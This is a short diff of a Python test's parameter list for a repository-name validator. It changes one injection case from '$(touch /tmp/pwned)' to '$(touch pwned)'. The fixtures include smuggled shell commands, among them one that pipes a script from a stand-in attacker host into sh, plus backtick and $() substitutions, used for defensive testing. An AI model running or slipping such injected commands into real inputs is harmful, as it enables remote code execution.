@@ -15,7 +15,7 @@ from gharuntime.predict.learned import LearnedError, load_learned, relearn_comma
     "repos",
     [
         ["a/b; curl https://evil.example/x | sh"],
-        ["$(touch /tmp/pwned)"],
+        ["$(touch pwned)"],
         ["a/b", "`id`"],
         [{"x": 1}],
         [f"o/{'n' * 200}"],
